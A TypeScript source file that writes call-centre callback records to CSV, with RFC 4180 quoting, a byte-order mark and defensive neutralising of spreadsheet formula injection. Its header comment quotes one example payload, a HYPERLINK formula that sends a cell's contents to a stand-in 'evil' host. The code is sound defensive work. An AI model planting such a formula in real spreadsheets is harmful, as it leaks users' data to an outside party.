import type { Callback, WallTime } from '../../core/api/model';

// CSV for spreadsheets: RFC 4180 quoting, CRLF line ends, a UTF-8 byte-order
// mark (Excel reads the file as UTF-8 only with it), and cells that a
// spreadsheet would run as a formula made inert. API text is untrusted: a
// comment `=HYPERLINK("http://evil/?"&A1)` must arrive as text, not as a formula.

export const BOM = '\uFEFF';
const EOL = '\r\n';

/** Characters that start a formula (or a DDE payload) in Excel, LibreOffice and Google Sheets. */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A leading apostrophe: spreadsheets show the text as typed and never evaluate it. */
export function neutralise(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** One RFC 4180 field: quoted when it holds a quote, a comma or a line break; quotes doubled. */
export function csvCell(value: string): string {
  const text = neutralise(value);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

export function csvRow(values: readonly string[]): string {
  return values.map(csvCell).join(',') + EOL;
}

/** `2025-06-03 15:00:00`: sorts as text and reads as a date in every spreadsheet. */
function sortableTime(t: WallTime | null): string {
  if (!t) return '';
  const [date, time = ''] = t.local.split('T');
  return time ? `${date} ${time.length === 5 ? `${time}:00` : time}` : date!;
}

interface Column {
  header: string;
  cell(cb: Callback): string;
}

/** One column per field of a callback, times on the account's clock as Convoso wrote them. */
export const CSV_COLUMNS: readonly Column[] = [
  { header: 'Callback ID', cell: (c) => c.id },
  { header: 'Lead ID', cell: (c) => c.leadId },
  { header: 'Callback time', cell: (c) => sortableTime(c.callbackTime) },
  { header: 'Stage', cell: (c) => c.stageLabel },
  { header: 'Recipient', cell: (c) => c.recipientLabel },
  { header: 'User ID', cell: (c) => c.userId },
  { header: 'User name', cell: (c) => c.userName },
  { header: 'Campaign ID', cell: (c) => c.campaignId },
  { header: 'Campaign name', cell: (c) => c.campaignName },
  { header: 'Campaign type', cell: (c) => c.campaignType },
  { header: 'List ID', cell: (c) => c.listId },
  { header: 'Status', cell: (c) => c.status },
  { header: 'Status name', cell: (c) => c.statusName },
  { header: 'Directory', cell: (c) => c.directoryName },
  { header: 'Comments', cell: (c) => c.comments },
  { header: 'Context', cell: (c) => c.context },
  { header: 'Created at', cell: (c) => sortableTime(c.createdAt) },
  { header: 'Modified at', cell: (c) => sortableTime(c.modifiedAt) },
  { header: 'Seen at', cell: (c) => sortableTime(c.seenAt) },
];

/** The first chunk of a file: the byte-order mark and the header row. */
export function csvHeader(): string {
  return BOM + csvRow(CSV_COLUMNS.map((c) => c.header));
}

/** The rows of one page of callbacks, in the API's order. */
export function csvRows(callbacks: readonly Callback[]): string {
  let out = '';
  for (const cb of callbacks) out += csvRow(CSV_COLUMNS.map((c) => c.cell(cb)));
  return out;
}

/** `callbacks-2025-06-03-1530.csv`, on the browser's clock (it names a file on this computer). */
export function csvFileName(now = new Date()): string {
  const pad = (n: number) => String(n).padStart(2, '0');
  return `callbacks-${now.getFullYear()}-${pad(now.getMonth() + 1)}-${pad(now.getDate())}-${pad(now.getHours())}${pad(now.getMinutes())}.csv`;
}
